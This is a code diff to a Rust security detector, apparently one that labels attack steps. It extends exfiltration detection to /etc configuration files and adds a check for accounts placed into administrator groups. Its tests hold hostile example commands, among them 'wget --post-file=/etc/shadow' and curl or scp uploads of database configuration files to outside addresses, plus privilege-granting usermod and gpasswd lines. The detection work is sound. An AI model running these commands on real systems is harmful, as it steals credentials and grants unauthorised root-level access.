@@ -2108,8 +2108,9 @@ pub enum Step {
     /// the site and then asks has been steered there by a client (request forgery:
     /// `server_steered` in data/signals.yaml).
     InstanceMetadata,
-    /// Key or credential material named as what a copy or upload tool sends to another
-    /// host (`scp /keys/signing.key u@host:`, `curl -T id_rsa URL`), not as the tool's own
+    /// Key or credential material, or one of the system's configuration files, named as
+    /// what a copy or upload tool sends to another host (`scp /keys/signing.key u@host:`,
+    /// `curl -T id_rsa URL`, `scp /etc/app/db.conf u@host:`), not as the tool's own
     /// identity (`scp -i KEY`): the secret itself leaves, whichever address it goes to
     /// (see [`sends_key_material`]).
     KeySent,
@@ -2151,7 +2152,7 @@ impl Step {
             Step::StoreTaken => "a whole database, zone or keyring dumped or transferred",
             Step::LogDestroyed => "a log the same session had just created removed",
             Step::InstanceMetadata => "a connection to the cloud instance metadata service",
-            Step::KeySent => "key or credential material copied to another host",
+            Step::KeySent => "key, credential or configuration file copied to another host",
         }
     }
 
@@ -2190,7 +2191,7 @@ impl Step {
             Step::StoreTaken => "データベース全体・DNS ゾーン・鍵束の一括取得・転送",
             Step::LogDestroyed => "同じセッションが作成した直後のログの削除",
             Step::InstanceMetadata => "クラウドのインスタンスメタデータサービスへの接続",
-            Step::KeySent => "鍵・認証情報そのものの他ホストへのコピー",
+            Step::KeySent => "鍵・認証情報・設定ファイルそのものの他ホストへのコピー",
         }
     }
 }
@@ -2558,6 +2559,96 @@ fn gives_root_id(args: &[&str]) -> bool {
     false
 }
 
+/// Groups whose members hold the host's administration: sudo's and su's groups (`wheel`,
+/// `sudo`, `admin`), root's own group, and the groups that reach root without a password
+/// (the container daemons' sockets, raw disks, the shadow file). Group id 0 is root's.
+const ADMIN_GROUPS: &[&str] = &[
+    "wheel", "sudo", "admin", "root", "docker", "lxd", "disk", "shadow",
+];
+
+/// The administrators' group ([`ADMIN_GROUPS`]) an account tool's command line puts an
+/// account into, if any: `useradd`/`usermod` with `-G`/`--groups` (also `-aG`, `-Gwheel`,
+/// `--groups=`) or a primary group `-g`/`--gid`; `gpasswd -a USER GROUP` or `-M USERS
+/// GROUP`; Debian's `adduser USER GROUP`; `groupmems -g GROUP -a USER`. Listing, removing
+/// (`gpasswd -d`) and other groups are not.
+pub fn grants_admin_group(name: &str, args: &[&str]) -> Option<String> {
+    let admin = |list: &str| {
+        list.split(',')
+            .map(|g| g.trim_matches(|c| c == '"' || c == '\''))
+            .find(|g| ADMIN_GROUPS.contains(g) || *g == "0")
+            .map(|g| if g == "0" { "root" } else { g }.to_string())
+    };
+    match name {
+        "useradd" | "usermod" => {
+            let mut want = false;
+            for a in args {
+                if want {
+                    want = false;
+                    if let Some(g) = admin(a) {
+                        return Some(g);
+                    }
+                    continue;
+                }
+                if let Some(v) = a
+                    .strip_prefix("--groups=")
+                    .or_else(|| a.strip_prefix("--gid="))
+                {
+                    if let Some(g) = admin(v) {
+                        return Some(g);
+                    }
+                } else if matches!(*a, "--groups" | "--gid") {
+                    want = true;
+                } else if let Some(letters) = a.strip_prefix('-').filter(|l| !l.starts_with('-')) {
+                    // Short options run together: `-aG`, then the list; `-Gwheel` holds it.
+                    if let Some(p) = letters.find(['G', 'g']) {
+                        let rest = &letters[p + 1..];
+                        if rest.is_empty() {
+                            want = true;
+                        } else if let Some(g) = admin(rest) {
+                            return Some(g);
+                        }
+                    }
+                }
+            }
+            None
+        }
+        "gpasswd" => {
+            let adds = args
+                .iter()
+                .any(|a| matches!(*a, "-a" | "--add" | "-M" | "--members"));
+            adds.then(|| args.last().and_then(|g| admin(g))).flatten()
+        }
+        "adduser" | "addgroup" => {
+            // `adduser USER GROUP`: two operands, no options taking values between them.
+            let operands: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
+            (operands.len() == 2 && !args.iter().any(|a| a.starts_with('-')))
+                .then(|| admin(operands[1]))
+                .flatten()
+        }
+        "groupmems" => {
+            let adds = args.iter().any(|a| matches!(*a, "-a" | "--add"));
+            let group = args
+                .windows(2)
+                .find(|w| matches!(w[0], "-g" | "--group"))
+                .map(|w| w[1]);
+            group.filter(|_| adds).and_then(admin)
+        }
+        _ => None,
+    }
+}
+
+/// The administrators' group an execution's command line puts an account into
+/// ([`grants_admin_group`]), for a successful execution of an account tool.
+pub fn exec_grants_admin_group(ev: &FlatEvent) -> Option<String> {
+    if !is_exec(ev) || !succeeded(ev) {
+        return None;
+    }
+    let name = text(ev, "proc.name")?;
+    let cmd = text(ev, "proc.cmdline")?;
+    let args: Vec<&str> = cmd.split_whitespace().skip(1).collect();
+    grants_admin_group(&name, &args)
+}
+
 /// Whether an interpreter runs code given on its command line rather than a script file
 /// (`php -r`, `python -c`, `perl -e`, `ruby -e`, `node -e`/`--eval`).
 fn inline_code(ev: &FlatEvent) -> bool {
@@ -2781,8 +2872,9 @@ const RSYNC_VALUE_OPTIONS: &[&str] = &[
     "--log-file",
 ];
 
-/// The key or credential material ([`is_credential_material`]) a copy or upload tool's
-/// command line names as what it sends to another host: a local source of `scp`, `sftp`
+/// The key or credential material ([`is_credential_material`]) or configuration file of
+/// the system's services (`named_config_file`) a copy or upload tool's command line names
+/// as what it sends to another host: a local source of `scp`, `sftp`
 /// or `rsync` when a destination is remote (`host:path`, `rsync://`), or what curl or
 /// wget upload (`-T FILE`, `--upload-file`, `-F name=@FILE`, `--data-binary @FILE`,
 /// `--post-file=FILE`). The values of the tool's own options (an identity key, a remote
@@ -2798,7 +2890,7 @@ pub fn sends_key_material(name: &str, args: &[&str]) -> Option<String> {
         } else {
             format!("/{}", a.trim_start_matches("~/"))
         };
-        is_credential_material(&probe).then(|| a.to_string())
+        (is_credential_material(&probe) || named_config_file(&probe)).then(|| a.to_string())
     };
     let mut sent: Vec<String> = Vec::new();
     match name {
@@ -2875,6 +2967,38 @@ pub fn sends_key_material(name: &str, args: &[&str]) -> Option<String> {
         _ => return None,
     }
     sent.into_iter().find_map(|a| key(&a))
+}
+
+/// Whether a path names one configuration file of the system's own services: under `/etc/`,
+/// a file name with a configuration format's extension (`/etc/bbis/db.conf`, `/etc/my.cnf`,
+/// `/etc/app/settings.yaml`, `/etc/app/.env`). Such a file holds what its service connects
+/// with (a database's password, an API token); a copy tool naming it as what it sends takes
+/// it ([`sends_key_material`]). A directory (`/etc/`, `/etc/nginx/`) is a tree, which
+/// backups copy whole, and a glob is not one file.
+fn named_config_file(path: &str) -> bool {
+    let Some(rest) = path.strip_prefix("/etc/") else {
+        return false;
+    };
+    if rest.is_empty() || rest.ends_with('/') || rest.contains(['*', '?', '[']) {
+        return false;
+    }
+    let base = rest.rsplit('/').next().unwrap_or(rest);
+    let ext = base.rsplit_once('.').map(|(_, e)| e).unwrap_or_default();
+    base == ".env"
+        || matches!(
+            ext.to_ascii_lowercase().as_str(),
+            "conf"
+                | "cnf"
+                | "cfg"
+                | "ini"
+                | "env"
+                | "yaml"
+                | "yml"
+                | "json"
+                | "toml"
+                | "properties"
+                | "xml"
+        )
 }
 
 /// Whether a path lies in a directory of mounted secrets by its name (`/var/openfaas/secrets/`,
@@ -4075,6 +4199,17 @@ mod tests {
                 "wget --post-file=/etc/shadow http://203.0.113.9/",
                 "/etc/shadow",
             ),
+            // One of the system's configuration files, beside the job's own output (the
+            // blind holdout21: a courier job edited to send the database's settings too).
+            (
+                "scp -i /keys/push_ed25519 /out/manifest-2026-11-05.csv /etc/bbis/db.conf m@10.90.7.20:/inbound/",
+                "/etc/bbis/db.conf",
+            ),
+            (
+                "curl -s -T /etc/historian/db.env http://203.0.113.61/u/wa",
+                "/etc/historian/db.env",
+            ),
+            ("rsync -a /etc/mysql/my.cnf b@10.0.0.9:/srv/", "/etc/mysql/my.cnf"),
         ] {
             assert_eq!(sends(cmd).as_deref(), Some(key), "{cmd}");
         }
@@ -4091,6 +4226,12 @@ mod tests {
             "rsync -a /etc/ssl/private/site.key /srv/backup/",
             "scp /root/.ssh/id_rsa.pub u@h:",
             "curl -u admin:secret https://h/x",
+            // A configuration tree copied whole, a glob, a file that is no configuration.
+            "rsync -a /etc/nginx/ b@10.0.0.9:/srv/etc/",
+            "scp /etc/nginx/conf.d/*.conf b@10.0.0.9:/srv/",
+            "scp /etc/hostname b@10.0.0.9:/srv/",
+            // Configuration fetched to the local /etc is a download.
+            "scp u@h:/etc/app/db.conf /etc/app/db.conf",
         ] {
             assert_eq!(sends(cmd), None, "{cmd}");
         }
@@ -4106,6 +4247,42 @@ mod tests {
             attack_step(&exec("scp -i /keys/id_ed25519 /data/h.bin afc@10.60.4.21:")).map(|s| s.0),
             Some(Step::KeySent)
         );
+    }
+
+    /// An account tool's command line that puts an account into an administrators' group,
+    /// in every spelling of the option; other groups, removal and listing do not.
+    #[test]
+    fn an_account_put_into_an_administrators_group_is_named() {
+        let grants = |cmd: &str| {
+            let w: Vec<&str> = cmd.split_whitespace().collect();
+            grants_admin_group(w[0], &w[1..])
+        };
+        for (cmd, group) in [
+            ("useradd -m -G wheel -s /bin/bash svc.sync2", "wheel"),
+            ("useradd -m -G staff,sudo alice", "sudo"),
+            ("usermod -aG docker lwei", "docker"),
+            ("usermod -Gadm,wheel bob", "wheel"),
+            ("usermod --groups=lxd carol", "lxd"),
+            ("usermod --groups admin carol", "admin"),
+            ("useradd -g 0 -M svc", "root"),
+            ("gpasswd -a amartin wheel", "wheel"),
+            ("gpasswd -M a,b sudo", "sudo"),
+            ("adduser sysmon sudo", "sudo"),
+            ("groupmems -g disk -a eve", "disk"),
+        ] {
+            assert_eq!(grants(cmd).as_deref(), Some(group), "{cmd}");
+        }
+        for cmd in [
+            "useradd -m -G teachers -s /bin/bash t.okafor",
+            "usermod -aG dialout gateocr",
+            "gpasswd -d amartin wheel",
+            "adduser --system --group sysmon",
+            "useradd -m -k /root/skel -d /home/wheel wheel",
+            "groupmems -g sudo -l",
+            "passwd -S root",
+        ] {
+            assert_eq!(grants(cmd), None, "{cmd}");
+        }
     }
 
     #[test]
